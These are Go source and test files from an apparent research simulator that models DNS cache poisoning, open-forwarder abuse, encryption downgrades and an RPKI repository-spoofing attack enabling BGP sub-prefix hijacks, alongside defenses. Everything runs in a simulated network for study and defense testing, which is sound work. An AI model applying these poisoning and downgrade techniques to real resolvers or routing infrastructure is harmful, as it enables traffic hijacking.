	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("validating resolver cached the unsigned spoof")
	}
}

func TestClientFacingResolutionOverUDP(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 11})
	var answers []*dnswire.RR
	resolver.StubLookup(s.ClientHost, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA, 5*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil {
				t.Errorf("stub lookup: %v", err)
			}
			answers = rrs
		})
	s.Run()
	if len(answers) != 1 || answers[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("client got %v", answers)
	}
}

func TestClosedResolverIgnoresExternalClients(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 12})
	var called bool
	resolver.StubLookup(s.Attacker, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA, 2*time.Second,
		func(rrs []*dnswire.RR, err error) {
			called = true
			if err == nil {
				t.Error("closed resolver answered an external client")
			}
		})
	s.Run()
	if !called {
		t.Fatal("stub callback never ran")
	}
	if s.Resolver.ClientQueries != 0 {
		t.Fatal("closed resolver processed external query")
	}
}

func TestOpenResolverAnswersExternalClients(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 13, OpenResolver: true})
	var ok bool
	resolver.StubLookup(s.Attacker, scenario.ResolverIP, "www.vict.im.", dnswire.TypeA, 5*time.Second,
		func(rrs []*dnswire.RR, err error) { ok = err == nil && len(rrs) > 0 })
	s.Run()
	if !ok {
		t.Fatal("open resolver did not answer")
	}
}

func TestForwarderRelaysAndEnablesExternalTrigger(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 14})
	// An open forwarder inside the victim AS relays to the closed
	// resolver (§4.3.3's attack enabler).
	fwdHost := s.Net.AddHost("forwarder.victim-net", scenario.VictimAS, netip.MustParseAddr("30.0.0.7"))
	fwd := resolver.NewForwarder(fwdHost, scenario.ResolverIP)
	var ok bool
	resolver.StubLookup(s.Attacker, fwdHost.Addr, "www.vict.im.", dnswire.TypeA, 5*time.Second,
		func(rrs []*dnswire.RR, err error) { ok = err == nil && len(rrs) > 0 })
	s.Run()
	if !ok {
		t.Fatal("forwarder did not relay")
	}
	if fwd.Forwarded != 1 || fwd.Returned != 1 {
		t.Fatalf("forwarder counters: %d/%d", fwd.Forwarded, fwd.Returned)
	}
	if s.Resolver.ClientQueries != 1 {
		t.Fatal("resolver did not see the forwarded query")
	}
	// The attacker has now planted the record in the victim cache
	// (a legitimate record here, but the trigger capability is proven).
	if !s.Resolver.Cache.Contains("www.vict.im.", dnswire.TypeA) {
		t.Fatal("resolver cache not primed via forwarder")
	}
}

func TestQueryCoalescing(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 15})
	results := 0
	for i := 0; i < 5; i++ {
		s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(rrs []*dnswire.RR, err error) {
			if err == nil && len(rrs) > 0 {
				results++
			}
		})
	}
	s.Run()
	if results != 5 {
		t.Fatalf("results = %d, want 5", results)
	}
	if s.NS.Queries != 1 {
		t.Fatalf("NS saw %d queries, want 1 (coalesced)", s.NS.Queries)
	}
}

func TestRefusedOutsideConfiguredZones(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 16})
	_, err := lookupSync(t, s, "unconfigured.example.", dnswire.TypeA)
	if !errors.Is(err, resolver.ErrServFail) {
		t.Fatalf("err = %v, want servfail", err)
	}
}
