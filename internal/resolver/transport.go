package resolver

import "crosslayer/internal/netsim"

// Transport selects the wire protocol a resolver or forwarder uses for
// its UPSTREAM queries. The zero value (UDP) is the classic plaintext
// datagram path with its truncation-driven TCP fallback; every other
// transport rides a netsim.Session — a stateful, non-spoofable stream
// whose handshake cost is amortized by connection reuse. The security
// consequences fall out of the session model rather than being encoded
// here: stream transports expose no 16-bit source port or raceable
// TXID to an off-path attacker (SadDNS finds nothing to scan), carry
// answers without IP fragmentation (FragDNS has no second fragment to
// plant), and the encrypted ones fail closed under a prefix hijack
// (certificate validation turns interception into a hard error).
type Transport uint8

const (
	// TransportUDP is plaintext UDP with TCP fallback on truncation.
	TransportUDP Transport = iota
	// TransportTCP is DNS over persistent plaintext TCP (RFC 7766).
	TransportTCP
	// TransportDoT is DNS over TLS (RFC 7858).
	TransportDoT
	// TransportDoH is DNS over HTTPS (RFC 8484).
	TransportDoH
	// TransportDoQ is DNS over QUIC (RFC 9250).
	TransportDoQ
)

// StreamTransports lists every session-based transport — the service
// ports a DNS server binds so that any upstream choice finds an
// endpoint to talk to.
func StreamTransports() []Transport {
	return []Transport{TransportTCP, TransportDoT, TransportDoH, TransportDoQ}
}

// Key is the short stable name used in campaign axes, filters and
// report columns.
func (t Transport) Key() string {
	switch t {
	case TransportTCP:
		return "tcp"
	case TransportDoT:
		return "dot"
	case TransportDoH:
		return "doh"
	case TransportDoQ:
		return "doq"
	default:
		return "udp"
	}
}

func (t Transport) String() string { return t.Key() }

// Stream reports whether queries ride a netsim.Session instead of
// datagrams.
func (t Transport) Stream() bool { return t != TransportUDP }

// Encrypted reports whether the transport authenticates the server
// (fails closed under hijack, handshake refusable by BlockSecure).
func (t Transport) Encrypted() bool {
	return t == TransportDoT || t == TransportDoH || t == TransportDoQ
}

// HandshakeRTTs is the extra round trips a fresh connection pays
// before its first query: TCP handshake 1; TCP+TLS 1.3 for DoT/DoH 2;
// QUIC folds transport and crypto into 1.
func (t Transport) HandshakeRTTs() int {
	switch t {
	case TransportTCP:
		return 1
	case TransportDoT, TransportDoH:
		return 2
	case TransportDoQ:
		return 1
	default:
		return 0
	}
}

// Port is the upstream service port. DoQ's registered port is 853 like
// DoT's, but the simulator keys session services by port alone, so DoQ
// gets a neighbouring port to keep the two endpoints distinct.
func (t Transport) Port() uint16 {
	switch t {
	case TransportTCP:
		return 53
	case TransportDoT:
		return 853
	case TransportDoH:
		return 443
	case TransportDoQ:
		return 8853
	default:
		return 0
	}
}

// PadBlock is the RFC 8467 EDNS-padding block applied to encrypted
// transports (128-byte blocks, the recommended policy); plaintext
// streams send true sizes.
func (t Transport) PadBlock() int {
	if t.Encrypted() {
		return 128
	}
	return 0
}

// SessionConfig translates the transport into netsim session
// behaviour.
func (t Transport) SessionConfig() netsim.SessionConfig {
	return netsim.SessionConfig{
		HandshakeRTTs: t.HandshakeRTTs(),
		Plaintext:     !t.Encrypted(),
		PadBlock:      t.PadBlock(),
	}
}

// ParseTransport maps a Key back to its Transport.
func ParseTransport(key string) (Transport, bool) {
	switch key {
	case "udp":
		return TransportUDP, true
	case "tcp":
		return TransportTCP, true
	case "dot":
		return TransportDoT, true
	case "doh":
		return TransportDoH, true
	case "doq":
		return TransportDoQ, true
	}
	return TransportUDP, false
}
