package resolver_test

import (
	"errors"
	"net/netip"
	"testing"
	"time"

	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

// newTransportS builds the canonical scenario with the resolver's
// upstream transport overridden.
func newTransportS(t *testing.T, seed int64, tr resolver.Transport, opportunistic bool) *scenario.S {
	t.Helper()
	prof := resolver.ProfileBIND
	prof.Transport = tr
	prof.Opportunistic = opportunistic
	return newS(t, scenario.Config{Seed: seed, Profile: prof})
}

// nsSession returns the resolver host's cached session to the
// nameserver for the given transport — the exact connection object the
// resolver queried over, so its counters are the resolver's counters.
func nsSession(s *scenario.S, tr resolver.Transport) *netsim.Session {
	return s.ResolverHost.Session(scenario.NSIP, tr.Port(), tr.SessionConfig())
}

// chainLookupSync resolves name from the client through the forwarder
// chain's entry hop.
func chainLookupSync(t *testing.T, s *scenario.S, name string) ([]*dnswire.RR, error) {
	t.Helper()
	var rrs []*dnswire.RR
	var err error
	done := false
	resolver.StubLookup(s.ClientHost, s.DNSAddr(), name, dnswire.TypeA, 20*time.Second,
		func(r []*dnswire.RR, e error) { rrs, err, done = r, e, true })
	s.Run()
	if !done {
		t.Fatal("chain lookup never completed")
	}
	return rrs, err
}

// TestEncryptedTransportsResolve: every stream transport resolves the
// baseline query end-to-end — one upstream exchange over one fresh
// connection, no UDP involved.
func TestEncryptedTransportsResolve(t *testing.T) {
	for _, tr := range resolver.StreamTransports() {
		t.Run(tr.Key(), func(t *testing.T) {
			s := newTransportS(t, 61, tr, false)
			rrs, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
			if err != nil {
				t.Fatal(err)
			}
			if len(rrs) != 1 || rrs[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
				t.Fatalf("bad answer: %v", rrs)
			}
			if s.NS.Queries != 1 {
				t.Fatalf("NS saw %d queries, want 1", s.NS.Queries)
			}
			sess := nsSession(s, tr)
			if sess.Handshakes != 1 || sess.Calls != 1 {
				t.Fatalf("session counters: %d handshakes, %d calls, want 1/1", sess.Handshakes, sess.Calls)
			}
		})
	}
}

// TestHandshakeRTTLatencyAccounting: a fresh connection's handshake
// round trips are visible in virtual resolution time, ordered by each
// transport's setup cost — UDP (0 RTT) < DoQ (1 RTT) < DoT (2 RTT).
func TestHandshakeRTTLatencyAccounting(t *testing.T) {
	elapsed := func(tr resolver.Transport) time.Duration {
		s := newTransportS(t, 62, tr, false)
		doneAt := time.Duration(-1)
		s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, e error) {
			if e != nil {
				t.Error(e)
			}
			doneAt = s.Clock.Now()
		})
		s.Run()
		if doneAt < 0 {
			t.Fatal("lookup never completed")
		}
		return doneAt
	}
	udp, doq, dot := elapsed(resolver.TransportUDP), elapsed(resolver.TransportDoQ), elapsed(resolver.TransportDoT)
	if !(udp < doq && doq < dot) {
		t.Fatalf("handshake cost not ordered: udp=%v doq=%v dot=%v", udp, doq, dot)
	}
}

// TestSessionReuseAmortizesHandshakes: the second upstream exchange
// rides the established connection — one handshake total, and the
// second resolution is measurably faster (RFC 7766 reuse).
func TestSessionReuseAmortizesHandshakes(t *testing.T) {
	s := newTransportS(t, 63, resolver.TransportDoT, false)
	timed := func(name string, wantErr error) time.Duration {
		start := s.Clock.Now()
		doneAt := time.Duration(-1)
		s.Resolver.Lookup(name, dnswire.TypeA, func(_ []*dnswire.RR, e error) {
			if !errors.Is(e, wantErr) {
				t.Errorf("%s err = %v, want %v", name, e, wantErr)
			}
			doneAt = s.Clock.Now()
		})
		s.Run()
		if doneAt < 0 {
			t.Fatalf("%s lookup never completed", name)
		}
		return doneAt - start
	}
	first := timed("www.vict.im.", nil)
	second := timed("nope.vict.im.", resolver.ErrNXDomain)

	sess := nsSession(s, resolver.TransportDoT)
	if sess.Handshakes != 1 || sess.Calls != 2 {
		t.Fatalf("session counters: %d handshakes, %d calls, want 1/2", sess.Handshakes, sess.Calls)
	}
	if second >= first {
		t.Fatalf("connection reuse did not amortize the handshake: first=%v second=%v", first, second)
	}
}

// TestStrictEncryptedFailsClosed: a strict encrypted resolver whose
// handshakes an active attacker breaks SERVFAILs — it never falls
// back to plaintext, so the attack is a DoS, not an opening.
func TestStrictEncryptedFailsClosed(t *testing.T) {
	s := newTransportS(t, 64, resolver.TransportDoT, false)
	s.Net.BlockSecure(scenario.ResolverIP, scenario.NSIP)
	_, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if !errors.Is(err, resolver.ErrServFail) {
		t.Fatalf("err = %v, want SERVFAIL (fail closed)", err)
	}
	if s.NS.Queries != 0 {
		t.Fatalf("NS saw %d queries through a blocked handshake", s.NS.Queries)
	}
	if s.Resolver.Downgraded() {
		t.Fatal("strict resolver must never downgrade")
	}
}

// TestOpportunisticDowngradeFallsBackToUDP: an opportunistic resolver
// under the same handshake block retries the attempt over plaintext
// UDP — resolution succeeds, and the sticky downgrade is counted.
func TestOpportunisticDowngradeFallsBackToUDP(t *testing.T) {
	s := newTransportS(t, 65, resolver.TransportDoT, true)
	s.Net.BlockSecure(scenario.ResolverIP, scenario.NSIP)
	rrs, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) != 1 || rrs[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("bad answer after downgrade: %v", rrs)
	}
	if !s.Resolver.Downgraded() || s.Resolver.Downgrades != 1 {
		t.Fatalf("downgrade not recorded: downgraded=%v count=%d", s.Resolver.Downgraded(), s.Resolver.Downgrades)
	}
	if s.Resolver.EffectiveTransport() != resolver.TransportUDP {
		t.Fatalf("effective transport %v after downgrade", s.Resolver.EffectiveTransport())
	}
	// The fallback is permanent: the next miss goes straight to UDP,
	// paying no further blocked-handshake round trips.
	if _, err := lookupSync(t, s, "nope.vict.im.", dnswire.TypeA); !errors.Is(err, resolver.ErrNXDomain) {
		t.Fatalf("post-downgrade lookup err = %v", err)
	}
	if s.Resolver.Downgrades != 1 {
		t.Fatalf("Downgrades = %d after second lookup, want 1 (sticky)", s.Resolver.Downgrades)
	}
}

// TestNoTruncationFallbackOnStream: a response that would truncate on
// UDP rides the stream whole — no TC bit, no TCP fallback, no
// interaction between the truncation machinery and stream transports.
func TestNoTruncationFallbackOnStream(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.EDNSSize = 512
	prof.Transport = resolver.TransportDoT
	cfg := dnssrv.DefaultConfig()
	cfg.PadAnswersTo = 1500
	s := newS(t, scenario.Config{Seed: 66, Profile: prof, ServerCfg: cfg})
	rrs, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA)
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) == 0 {
		t.Fatal("no answers over the stream")
	}
	if s.Resolver.TCPFallbacks != 0 {
		t.Fatalf("TCPFallbacks = %d on a stream transport, want 0", s.Resolver.TCPFallbacks)
	}
	if s.NS.Truncated != 0 {
		t.Fatalf("NS.Truncated = %d on a stream transport, want 0", s.NS.Truncated)
	}
}

// TestEncryptedPaddingAccounting: every byte accounted on an encrypted
// session is padded to the RFC 8467 block, so message sizes leak only
// in 128-byte quanta.
func TestEncryptedPaddingAccounting(t *testing.T) {
	s := newTransportS(t, 67, resolver.TransportDoT, false)
	if _, err := lookupSync(t, s, "www.vict.im.", dnswire.TypeA); err != nil {
		t.Fatal(err)
	}
	sess := nsSession(s, resolver.TransportDoT)
	if sess.BytesSent == 0 || sess.BytesSent%128 != 0 {
		t.Fatalf("BytesSent = %d, want a positive multiple of 128", sess.BytesSent)
	}
	if sess.BytesRcvd == 0 || sess.BytesRcvd%128 != 0 {
		t.Fatalf("BytesRcvd = %d, want a positive multiple of 128", sess.BytesRcvd)
	}
}

// TestStreamQueryHasNoSpoofSurface: the off-path primitive every UDP
// attack needs — a guessable (port, TXID) pair to race — does not
// exist on a stream upstream. Even a spoof carrying the CORRECT TXID,
// sprayed at both the advertised query port (0: none) and the session
// service port, changes nothing; the resolver just times out against
// the muted server.
func TestStreamQueryHasNoSpoofSurface(t *testing.T) {
	prof := resolver.ProfileBIND
	prof.Transport = resolver.TransportDoT
	cfg := dnssrv.DefaultConfig()
	cfg.RateLimit = true
	cfg.RateLimitQPS = 0 // mute: queries arrive, responses never leave
	s := newS(t, scenario.Config{Seed: 68, Profile: prof, ServerCfg: cfg})

	var port, txid uint16
	s.Resolver.TestHookQuerySent = func(_ string, _ dnswire.Type, _ netip.Addr, p, x uint16) { port, txid = p, x }
	var lookupErr error
	done := false
	s.Resolver.Lookup("www.vict.im.", dnswire.TypeA, func(_ []*dnswire.RR, e error) { lookupErr, done = e, true })
	s.Clock.RunFor(5 * time.Millisecond) // query on the wire

	if port != 0 {
		t.Fatalf("stream query advertised UDP port %d, want 0 (no ephemeral socket)", port)
	}
	spoof := &dnswire.Message{
		ID: txid, Response: true,
		Questions: []dnswire.Question{{Name: "www.vict.im.", Type: dnswire.TypeA, Class: dnswire.ClassIN}},
		Answers:   []*dnswire.RR{dnswire.NewA("www.vict.im.", 300, scenario.AttackerIP)},
	}
	wire, _ := spoof.Pack()
	for _, p := range []uint16{port, resolver.TransportDoT.Port()} {
		s.Attacker.SendUDPSpoofed(scenario.NSIP, 53, scenario.ResolverIP, p, wire)
	}
	s.Run()
	if s.Poisoned("www.vict.im.", dnswire.TypeA) {
		t.Fatal("cache poisoned through a stream upstream")
	}
	if !done || !errors.Is(lookupErr, resolver.ErrTimeout) {
		t.Fatalf("lookup err = %v (done=%v), want timeout against the muted server", lookupErr, done)
	}
}

// TestForwarderEncryptedUpstream: a forwarder hop with a DoT upstream
// relays the client's query over its session and serves the answer —
// the chain works end-to-end with mixed per-hop transports.
func TestForwarderEncryptedUpstream(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 69, ForwarderChain: []scenario.ForwarderSpec{
		{Transport: resolver.TransportDoT},
	}})
	rrs, err := chainLookupSync(t, s, "www.vict.im.")
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) != 1 || rrs[0].Data.(*dnswire.AData).Addr != scenario.VictimWWW {
		t.Fatalf("bad answer through encrypted forwarder: %v", rrs)
	}
	f := s.Forwarders[0]
	if f.Forwarded != 1 || f.Returned != 1 {
		t.Fatalf("forwarder counters: forwarded=%d returned=%d, want 1/1", f.Forwarded, f.Returned)
	}
	sess := f.Host.Session(scenario.ResolverIP, resolver.TransportDoT.Port(), resolver.TransportDoT.SessionConfig())
	if sess.Handshakes != 1 || sess.Calls != 1 {
		t.Fatalf("forwarder session: %d handshakes, %d calls, want 1/1", sess.Handshakes, sess.Calls)
	}
}

// TestForwarderOpportunisticDowngrade: an opportunistic forwarder hop
// whose handshake is blocked retries the same exchange over UDP and
// records the sticky downgrade.
func TestForwarderOpportunisticDowngrade(t *testing.T) {
	s := newS(t, scenario.Config{Seed: 70, ForwarderChain: []scenario.ForwarderSpec{
		{Transport: resolver.TransportDoT, Opportunistic: true},
	}})
	f := s.Forwarders[0]
	s.Net.BlockSecure(f.Host.Addr, scenario.ResolverIP)
	rrs, err := chainLookupSync(t, s, "www.vict.im.")
	if err != nil {
		t.Fatal(err)
	}
	if len(rrs) != 1 {
		t.Fatalf("bad answer after forwarder downgrade: %v", rrs)
	}
	if !f.Downgraded() || f.Downgrades != 1 {
		t.Fatalf("forwarder downgrade not recorded: downgraded=%v count=%d", f.Downgraded(), f.Downgrades)
	}
	if f.EffectiveTransport() != resolver.TransportUDP {
		t.Fatalf("forwarder effective transport %v after downgrade", f.EffectiveTransport())
	}
}
