// Package rpki implements the RPKI ecosystem the paper's headline
// attack targets (§1, §4.5): ROA repositories published at a DNS name,
// relying-party caches that locate the repository via DNS and fetch
// ROAs over the network, and the route-origin-validation view they
// feed to BGP routers.
//
// The cross-layer attack: poison the relying party's resolver for the
// repository hostname, serve it an empty repository, and every
// announcement validates as "unknown" — which ROV-enforcing routers
// accept. A sub-prefix hijack of an RPKI-protected prefix then
// succeeds even though all networks filter invalids.
package rpki

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"time"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// RepoPort is the TCP port repositories serve on (stands in for
// rsync/RRDP).
const RepoPort = 8873

// roaWire is the JSON publication format.
type roaWire struct {
	Prefix string `json:"prefix"`
	Origin uint32 `json:"origin"`
	MaxLen int    `json:"maxlen"`
}

// Repository publishes ROAs on a host.
type Repository struct {
	Host *netsim.Host
	roas []bgp.ROA

	Fetches uint64
}

// NewRepository binds a ROA publication service on host.
func NewRepository(host *netsim.Host, roas []bgp.ROA) *Repository {
	r := &Repository{Host: host, roas: roas}
	host.BindTCP(RepoPort, r.serve)
	return r
}

// SetROAs replaces the published set.
func (r *Repository) SetROAs(roas []bgp.ROA) { r.roas = roas }

func (r *Repository) serve(_ netip.Addr, req []byte) []byte {
	if string(req) != "GET roas" {
		return nil
	}
	r.Fetches++
	out := make([]roaWire, len(r.roas))
	for i, roa := range r.roas {
		out[i] = roaWire{Prefix: roa.Prefix.String(), Origin: uint32(roa.Origin), MaxLen: roa.MaxLength}
	}
	b, err := json.Marshal(out)
	if err != nil {
		return nil
	}
	return b
}

// EmptyRepository serves an empty ROA set — what the attacker's host
// presents after hijacking the repository hostname.
func EmptyRepository(host *netsim.Host) *Repository {
	return NewRepository(host, nil)
}

// RelyingParty is an RPKI validator cache (RFC 6810's "RPKI cache"):
// it locates its repository by DNS name, fetches ROAs, and serves
// validation verdicts to routers.
type RelyingParty struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	RepoName     string
	// RefreshEvery is the periodic sync interval.
	RefreshEvery time.Duration

	roas     []bgp.ROA
	lastSync time.Duration
	haveData bool

	Syncs, SyncFailures uint64
}

// NewRelyingParty creates a validator on host using the resolver at
// resolverAddr to locate repoName.
func NewRelyingParty(host *netsim.Host, resolverAddr netip.Addr, repoName string) *RelyingParty {
	return &RelyingParty{
		Host: host, ResolverAddr: resolverAddr,
		RepoName:     dnswire.CanonicalName(repoName),
		RefreshEvery: 10 * time.Minute,
	}
}

// Sync performs one repository synchronisation: DNS lookup of the
// repository host, then a fetch. On any failure the relying party is
// left without usable data (haveData false) — the paper's downgrade
// outcome: "the RPKI validation [results] in status unknown (instead
// of invalid)".
func (rp *RelyingParty) Sync(done func(ok bool)) {
	resolver.StubLookup(rp.Host, rp.ResolverAddr, rp.RepoName, dnswire.TypeA, 5*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				rp.fail(done)
				return
			}
			addr := rrs[0].Data.(*dnswire.AData).Addr
			rp.Host.CallTCP(addr, RepoPort, []byte("GET roas"), func(resp []byte) {
				if resp == nil {
					rp.fail(done)
					return
				}
				var wire []roaWire
				if err := json.Unmarshal(resp, &wire); err != nil {
					rp.fail(done)
					return
				}
				roas := make([]bgp.ROA, 0, len(wire))
				for _, w := range wire {
					p, err := netip.ParsePrefix(w.Prefix)
					if err != nil {
						continue
					}
					roas = append(roas, bgp.ROA{Prefix: p, Origin: bgp.ASN(w.Origin), MaxLength: w.MaxLen})
				}
				rp.roas = roas
				rp.haveData = true
				rp.lastSync = rp.Host.Network().Clock.Now()
				rp.Syncs++
				if done != nil {
					done(true)
				}
			})
		})
}

func (rp *RelyingParty) fail(done func(bool)) {
	rp.SyncFailures++
	rp.haveData = false // stale data ages out; model as immediate loss
	rp.roas = nil
	if done != nil {
		done(false)
	}
}

// StartPeriodicSync schedules Sync every RefreshEvery.
func (rp *RelyingParty) StartPeriodicSync() {
	clock := rp.Host.Network().Clock
	var tick func()
	tick = func() {
		rp.Sync(nil)
		clock.After(rp.RefreshEvery, tick)
	}
	clock.After(0, tick)
}

// ROAs returns the current ROA set (nil when the last sync failed).
func (rp *RelyingParty) ROAs() []bgp.ROA {
	if !rp.haveData {
		return nil
	}
	return rp.roas
}

// HaveData reports whether the cache holds usable ROAs.
func (rp *RelyingParty) HaveData() bool { return rp.haveData }

// Validity classifies an announcement against the current cache.
func (rp *RelyingParty) Validity(ann bgp.Announcement) bgp.Validity {
	return bgp.Validate(ann, rp.ROAs())
}

// View returns a bgp.ROAView serving this relying party's data for
// every AS that uses it.
func (rp *RelyingParty) View() bgp.ROAView {
	return func(bgp.ASN) []bgp.ROA { return rp.ROAs() }
}

// String describes the cache state.
func (rp *RelyingParty) String() string {
	return fmt.Sprintf("rpki-rp{repo=%s roas=%d haveData=%v}", rp.RepoName, len(rp.roas), rp.haveData)
}
