package rpki_test

import (
	"net/netip"
	"testing"

	"crosslayer/internal/bgp"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/rpki"
	"crosslayer/internal/scenario"
)

func TestSyncFetchesROAs(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 1})
	roas := []bgp.ROA{{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS, MaxLength: 22}}
	repo := rpki.NewRepository(s.WWWHost, roas) // repo at rpki.vict.im -> 123.0.0.80
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")
	var ok bool
	rp.Sync(func(o bool) { ok = o })
	s.Run()
	if !ok || !rp.HaveData() {
		t.Fatalf("sync failed: ok=%v haveData=%v", ok, rp.HaveData())
	}
	if repo.Fetches != 1 {
		t.Fatalf("repo fetches = %d", repo.Fetches)
	}
	ann := bgp.Announcement{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS}
	if rp.Validity(ann) != bgp.ValidityValid {
		t.Fatalf("genuine announcement validity = %v", rp.Validity(ann))
	}
	hijack := bgp.Announcement{Prefix: netip.MustParsePrefix("123.0.1.0/24"), Origin: scenario.AttackerAS}
	if rp.Validity(hijack) != bgp.ValidityInvalid {
		t.Fatalf("hijack validity = %v", rp.Validity(hijack))
	}
}

func TestPoisonedResolverDowngradesValidation(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 2})
	rpki.NewRepository(s.WWWHost, []bgp.ROA{{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS, MaxLength: 22}})
	rpki.EmptyRepository(s.Attacker) // attacker serves an empty repo
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")

	// Plant the poisoned A record directly (the attack chains that
	// plant it live in internal/core and are tested there).
	s.Resolver.Cache.Put("rpki.vict.im.", dnswire.TypeA,
		[]*dnswire.RR{dnswire.NewA("rpki.vict.im.", 300, scenario.AttackerIP)})

	var ok bool
	rp.Sync(func(o bool) { ok = o })
	s.Run()
	if !ok {
		t.Fatal("sync against attacker repo should 'succeed' (that is the stealth)")
	}
	hijack := bgp.Announcement{Prefix: netip.MustParsePrefix("123.0.1.0/24"), Origin: scenario.AttackerAS}
	if rp.Validity(hijack) != bgp.ValidityUnknown {
		t.Fatalf("hijack validity = %v, want unknown after downgrade", rp.Validity(hijack))
	}
}

func TestSyncFailureLeavesNoData(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 3})
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")
	// No repository bound on the target: TCP connect fails.
	var ok bool
	rp.Sync(func(o bool) { ok = o })
	s.Run()
	if ok || rp.HaveData() {
		t.Fatal("sync should have failed")
	}
	if rp.SyncFailures != 1 {
		t.Fatalf("SyncFailures = %d", rp.SyncFailures)
	}
	ann := bgp.Announcement{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS}
	if rp.Validity(ann) != bgp.ValidityUnknown {
		t.Fatal("validator without data must return unknown")
	}
}

func TestPeriodicSync(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 4})
	rpki.NewRepository(s.WWWHost, []bgp.ROA{{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS, MaxLength: 22}})
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")
	rp.StartPeriodicSync()
	s.Clock.RunUntil(35 * 60 * 1e9) // 35 minutes
	if rp.Syncs < 3 {
		t.Fatalf("Syncs = %d, want >=3 over 35min at 10min cadence", rp.Syncs)
	}
}

func TestViewFeedsROVRouter(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 5})
	rpki.NewRepository(s.WWWHost, []bgp.ROA{{Prefix: scenario.DomainPrefix, Origin: scenario.DomainAS, MaxLength: 22}})
	rp := rpki.NewRelyingParty(s.ServiceHost, scenario.ResolverIP, "rpki.vict.im.")
	rp.Sync(nil)
	s.Run()
	// Wire the relying party into the RIB and enable ROV everywhere.
	for _, asn := range s.Topo.ASNs() {
		s.Topo.AS(asn).ROV = true
	}
	s.RIB.SetROAView(rp.View())
	// Attacker tries a sub-prefix hijack of the protected prefix.
	if !s.RIB.Announce(netip.MustParsePrefix("123.0.0.0/24"), scenario.AttackerAS) {
		t.Fatal("announcement filtered before ROV (prefix len)")
	}
	if origin, _ := s.RIB.Resolve(scenario.VictimAS, scenario.NSIP); origin != scenario.DomainAS {
		t.Fatalf("ROV failed to protect: traffic goes to AS%d", origin)
	}
}
