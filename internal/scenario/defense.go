package scenario

// DefenseSpec is one composable §6 countermeasure: a named,
// first-class unit of the scenario's defense pipeline. Config.Defenses
// carries an ordered list of specs; New applies each spec's Apply hook
// in order, after every other configuration field is fixed, so
// defenses always get the last word on shared knobs.
//
// Pipeline rules (see DESIGN.md "The defense pipeline"):
//
//   - Apply runs against the Config under construction and mutates
//     whatever state the countermeasure touches — the resolver
//     behaviour profile (cfg.Profile), the authoritative server
//     (cfg.ServerCfg), zone properties (cfg.SignVictimZone) — through
//     this one hook; there is no per-defense boolean on Config.
//   - Specs are applied in slice order; when two specs touch the same
//     field, the later one wins (last-writer-wins).
//   - Every canonical spec is idempotent (it sets fields absolutely,
//     never toggles), so the canonical specs commute: any stacking
//     order of distinct canonical specs builds the same scenario.
type DefenseSpec struct {
	// Key is the stable registry identifier used in campaign filters,
	// defense-set keys and rendered matrices ("dnssec", "0x20", ...).
	Key string
	// Name is the display form.
	Name string
	// Apply mutates the scenario configuration under construction.
	Apply func(cfg *Config)
}

// DefenseDNSSEC signs the victim zone and makes the resolver validate:
// answers without a valid covering RRSIG for a known-signed zone are
// rejected (§6.1, "DNSSEC prevents the attacks").
func DefenseDNSSEC() DefenseSpec {
	return DefenseSpec{
		Key: "dnssec", Name: "signed zone + validating resolver",
		Apply: func(cfg *Config) {
			cfg.SignVictimZone = true
			cfg.Profile.ValidateDNSSEC = true
		},
	}
}

// Defense0x20 makes the resolver 0x20-encode query names and require
// responses to echo the exact case, whatever the selected profile's
// default is.
func Defense0x20() DefenseSpec {
	return DefenseSpec{
		Key: "0x20", Name: "0x20 query-name encoding",
		Apply: func(cfg *Config) { cfg.Profile.Use0x20 = true },
	}
}

// DefenseNoRRL disables the authoritative server's response-rate
// limiting — the §6.2 recommendation, since RRL is the muting lever
// the SadDNS side channel needs.
func DefenseNoRRL() DefenseSpec {
	return DefenseSpec{
		Key: "no-rrl", Name: "response-rate limiting disabled",
